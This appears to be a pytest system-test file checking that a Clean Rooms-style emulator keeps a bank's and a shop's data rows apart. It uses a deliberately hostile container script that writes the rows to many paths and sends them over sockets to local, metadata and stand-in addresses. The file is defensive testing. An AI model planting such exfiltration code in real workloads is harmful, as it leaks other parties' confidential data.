"""A bank and a shop that try to see each other's rows, at a real server that checks signatures.

The shop's image does what it can to carry the bank's rows out. Each party's rows have numbers that occur nowhere else:
whatever the other can read, by any operation, page or object, must be without them.
"""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest
from botocore.config import Config
from botocore.exceptions import ClientError

from modelyard import keys
from modelyard.console.client import Client, ServerError
from tests.conftest import wait_for
from tests.rooms import BANK, IMAGE, SHOP, Room, write_image
from tests.system.server import Server

_ID = re.compile(r"[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}")
_ARN = re.compile(r"arn:aws:cleanrooms[a-z-]*:[\w:/-]+")

pytestmark = [pytest.mark.system, pytest.mark.slow, pytest.mark.usefixtures("sandbox")]

MARKS = {BANK: b"73102746", SHOP: b"88401953"}
COUNT = 30
ROWS = {
    "clients": "email,income\n" + "".join(f"p{n}@example.com,73102746{n:02}\n" for n in range(COUNT)),
    "visitors": "email,visits,bought\n" + "".join(f"p{n}@example.com,88401953{n:02},{n % 2}\n" for n in range(COUNT)),
}
OWNERS = {"clients": BANK, "visitors": SHOP}
LEAKS = """
import http.server, pathlib, socket, sys
rows = "".join(file.read_text() for file in sorted(pathlib.Path("/opt/ml/input/data/train").glob("*.csv"))
               ) if sys.argv[1] == "train" else ""
if sys.argv[1] == "train":
    print(rows, flush=True)
    print(rows, file=sys.stderr, flush=True)
    for place in ("/opt/ml/model/rows.csv", "/opt/ml/output/data/rows.csv", "/tmp/rows.csv", "/opt/ml/output/failure",
                  "/opt/ml/input/data/train/rows.csv", "/var/rows.csv", "/rows.csv", "rows.csv"):
        try:
            pathlib.Path(place).parent.mkdir(parents=True, exist_ok=True)
            pathlib.Path(place).write_text(rows)
        except OSError:
            pass
    for place in ("127.0.0.1", "169.254.169.254", "192.0.2.1"):
        try:
            socket.create_connection((place, PORT), 0.2).sendall(rows.encode())
        except OSError:
            pass
    sys.exit(FAILS)

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.answer(b"")
    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"])).decode()
        print(body, flush=True)
        pathlib.Path("/tmp/rows.csv").write_text(body)
        self.answer(b"0.5\\n" * len(body.splitlines()))
    def answer(self, body):
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

http.server.ThreadingHTTPServer(("0.0.0.0", 8080), Handler).serve_forever()
"""


class Parties:
    """The two, each with a key of its own."""

    def __init__(self, server: Server, of: dict[str, keys.Key]) -> None:
        self.server = server
        self._keys = of
        self._clients: dict[tuple[str, str], Any] = {}

    def client(self, service: str, account: str) -> Any:
        key = self._keys[account]
        credentials = {"aws_access_key_id": key.id, "aws_secret_access_key": key.secret, "region_name": "us-east-1"}
        config = Config(retries={"total_max_attempts": 1}, s3={"addressing_style": "path"})
        if (service, account) not in self._clients:
            made = boto3.client(service, endpoint_url=self.server.url, config=config, **credentials)
            self._clients[service, account] = made
        return self._clients[service, account]

    def pages(self, account: str) -> Client:
        key = self._keys[account]
        return Client(self.server.url, account, "us-east-1", (key.id, key.secret, None))

    def bring(self, table: str) -> None:
        account = OWNERS[table]
        s3, bucket = self.client("s3", account), f"{table}-of-{account}"
        s3.create_bucket(Bucket=bucket)
        s3.put_object(Bucket=bucket, Key=f"{table}/part.csv", Body=ROWS[table].encode())
        self.pages(account).post("tables/add", timeout=None, name=f"rooms.{table}", uri=f"s3://{bucket}/{table}")

    def reach(self, account: str, room: Room) -> bytes:
        """Every byte that an account can read of what is not its own table."""
        found = [
            repr(one) for service in ("cleanrooms", "cleanroomsml") for one in self._answers(service, account, room)
        ]
        found += [repr(one) for one in self._pages(account, room)]
        s3, bodies = self.client("s3", account), []
        names = {one["Name"] for one in s3.list_buckets()["Buckets"]} | {f"{name}-of-{OWNERS[name]}" for name in OWNERS}
        for bucket in sorted(names):
            if not bucket.endswith(f"-of-{account}"):
                bodies += self._objects(s3, bucket)
        return b"\n".join([*(text.encode() for text in found), *bodies])

    @staticmethod
    def _objects(s3: Any, bucket: str) -> list[bytes]:
        try:
            listed = s3.list_objects_v2(Bucket=bucket).get("Contents", [])
        except ClientError as error:
            return [repr(error.response).encode()]
        return [s3.get_object(Bucket=bucket, Key=one["Key"])["Body"].read() for one in listed]

    def _answers(self, service: str, account: str, room: Room) -> Iterator[Any]:
        """Of all operations that read, about all that the account's own lists name."""
        client, known = self.client(service, account), _Known(account, room)
        for _ in range(2):  # what the first round names is asked about in the second
            for operation, name in client.meta.method_to_api_mapping.items():
                if operation.startswith(("get_", "list_", "batch_get_")):
                    shape = client.meta.service_model.operation_model(name).input_shape
                    for request in known.requests(operation, shape.required_members):
                        try:
                            answer = getattr(client, operation)(**request)
                        except ClientError as error:
                            answer = error.response
                        if answer.get("Error", {}).get("Code") == "UnknownOperationException":
                            break
                        told = {name: value for name, value in answer.items() if name != "ResponseMetadata"}
                        known.learn(told)
                        yield told

    def _pages(self, account: str, room: Room) -> Iterator[Any]:
        pages = self.pages(account)
        jobs = pages.get("jobs/", limit=100)
        asked = [("jobs/show", {"id": one["id"]}) for one in jobs["jobs"]]
        asked += [("jobs/events", {"id": one["id"], "stage": one["stage"]}) for one in jobs["jobs"]]
        asked += [(f"{name}/", {}) for name in ("endpoints", "buckets", "models", "images")]
        asked += [("audit/", {"membership": membership}) for membership in room.memberships.values()]
        yield jobs
        for page, query in asked:
            try:
                yield pages.get(page, **query)
            except ServerError as error:
                yield str(error)


class _Known:
    """The names that an account has for things: those that it was told, and the other's membership."""

    def __init__(self, account: str, room: Room) -> None:
        self._ids = {room.collaboration, *room.memberships.values()}
        self._arns: set[str] = set()
        self._values = {
            "membershipIdentifier": {*room.memberships.values()},
            "collaborationIdentifier": {room.collaboration},
            "name": {"clients", "visitors"},
            "type": {"CUSTOM"},
            "analysisRuleType": {"CUSTOM"},
            "privacyBudgetType": {"ACCESS_BUDGET"},
        }
        self._asked: set[str] = set()

    def requests(self, operation: str, members: list[str]) -> Iterator[dict[str, str]]:
        """Those that were not made yet."""
        found: list[dict[str, str]] = [{}]
        for member in members:
            others = self._ids if member.endswith("Identifier") else self._arns if member.endswith("Arn") else set()
            found = [{**one, member: value} for one in found for value in sorted(self._values.get(member, others))]
        new = [one for one in found if f"{operation} {one}" not in self._asked]
        self._asked |= {f"{operation} {one}" for one in new}
        yield from new

    def learn(self, answer: Any) -> None:
        if isinstance(answer, str):
            self._ids |= {*_ID.findall(answer)}
            self._arns |= {*_ARN.findall(answer)}
        elif isinstance(answer, dict | list):
            for one in answer.values() if isinstance(answer, dict) else answer:
                self.learn(one)


@pytest.fixture
def parties(tmp_path: Path) -> Iterator[Parties]:
    folder = tmp_path / "data"
    of = {account: keys.add(folder, account) for account in (BANK, SHOP)}
    server = Server(folder).start()
    yield Parties(server, of)
    server.close()


def opened(parties: Parties, tmp_path: Path, fails: int) -> Room:
    """A room with both tables and the shop's image; the operator has taken that in."""
    port = parties.server.url.rpartition(":")[2]
    main = LEAKS.replace("PORT", port).replace("FAILS", str(fails))
    image = write_image(tmp_path / "image", main)
    operator = keys_of_operator(parties.server)
    Client(parties.server.url, SHOP, "us-east-1", operator).post("images/add", timeout=None, uri=IMAGE, path=str(image))
    for table in ROWS:
        parties.bring(table)
    room = Room(parties.client).open()
    for account in (BANK, SHOP):
        parties.client("s3", account).create_bucket(Bucket=f"out-{account}")
        room.configure(account, f"s3://out-{account}/models")
    room.bring_model()
    room.bring_tables()
    return room


def keys_of_operator(server: Server) -> tuple[str, str, None]:
    return SHOP, json.loads((server.folder / "server.json").read_text())["operator"], None


def ended(get: Any, arn: str) -> dict[str, Any]:
    def look() -> dict[str, Any] | None:
        found: dict[str, Any] = get(arn)
        return found if found["status"] in ("ACTIVE", "CREATE_FAILED", "INACTIVE") else None

    found = wait_for(look, 120)
    assert isinstance(found, dict)
    return found


def around(mark: bytes, text: bytes) -> bytes | None:
    """What stands before and after a mark; None where it does not occur."""
    place = text.find(mark)
    return text[max(0, place - 500) : place + 100] if place >= 0 else None


def test_neither_sees_the_others_rows_whatever_the_image_does(parties: Parties, tmp_path: Path) -> None:
    room = opened(parties, tmp_path, fails=0)
    channel = room.channel()
    assert ended(room.get_channel, channel)["numberOfRecords"] == COUNT
    filled = b"".join(file.read_bytes() for file in (parties.server.folder / "channels").rglob("*.csv"))
    assert all(mark in filled for mark in MARKS.values()), "the room has what nobody is to see"
    model = room.train(channel)["trainedModelArn"]
    assert ended(room.get_model, model)["status"] == "ACTIVE"
    job = room.infer(model, channel)
    assert ended(room.get_job, job)["status"] == "ACTIVE"

    reach = {account: parties.reach(account, room) for account in (BANK, SHOP)}
    assert b"0.5\n" in reach[BANK], "the bank has what it was to get"
    assert room.collaboration.encode() in reach[SHOP]
    assert around(MARKS[SHOP], reach[BANK]) is None
    assert around(MARKS[BANK], reach[SHOP]) is None
    assert b"0.5\n" not in reach[SHOP]


def test_nor_what_a_failing_container_says_of_them(parties: Parties, tmp_path: Path) -> None:
    room = opened(parties, tmp_path, fails=1)
    channel = room.channel()
    ended(room.get_channel, channel)
    model = room.train(channel)["trainedModelArn"]
    found = ended(room.get_model, model)
    assert (found["status"], found["statusDetails"]["statusCode"]) == ("CREATE_FAILED", "CONTAINER_EXITED_NON_ZERO")
    for account, other in ((BANK, SHOP), (SHOP, BANK)):
        assert around(MARKS[other], parties.reach(account, room)) is None


def test_no_party_is_the_operator_or_the_other(parties: Parties, tmp_path: Path) -> None:
    room = opened(parties, tmp_path, fails=0)
    bank = parties.pages(BANK)
    for page, query in (
        ("buckets/own", {"bucket": f"visitors-of-{SHOP}", "account": BANK}),
        ("images/add", {"uri": IMAGE, "path": "/etc"}),
        ("images/remove", {"uri": IMAGE}),
        ("tables/add", {"name": "rooms.theirs", "uri": f"s3://visitors-of-{SHOP}/visitors"}),
        ("tables/remove", {"name": "rooms.visitors"}),
    ):
        with pytest.raises(ServerError):
            bank.post(page, **query)
    assert around(MARKS[SHOP], parties.reach(BANK, room)) is None
    with pytest.raises(ClientError, match="AccessDenied"):
        room.configure(BANK, f"s3://out-{SHOP}/mine")
